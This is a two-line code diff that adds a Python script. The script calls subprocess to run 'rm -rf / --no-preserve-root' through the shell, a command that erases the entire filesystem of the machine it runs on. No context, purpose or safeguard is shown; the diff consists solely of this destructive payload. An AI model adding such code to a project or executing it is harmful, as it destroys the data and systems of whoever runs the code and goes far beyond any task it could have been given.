@@ -1,0 +1,2 @@
+import subprocess
+subprocess.run('rm -rf / --no-preserve-root', shell=True)
